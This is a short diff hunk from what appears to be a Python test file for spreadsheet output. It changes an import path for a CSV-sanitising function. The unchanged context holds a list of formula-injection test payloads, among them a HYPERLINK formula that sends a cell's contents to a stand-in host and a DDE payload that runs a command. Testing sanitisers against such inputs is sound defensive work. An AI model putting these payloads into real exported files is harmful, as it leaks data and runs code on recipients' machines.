@@ -8,7 +8,7 @@ from pathlib import Path
 
 from openpyxl import Workbook, load_workbook
 
-from aggregate.output import csv_safe, save_workbook
+from aggregate.outputs.output import csv_safe, save_workbook
 from extract import extract, read
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1;"Bấm vào đây")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1;2)"]
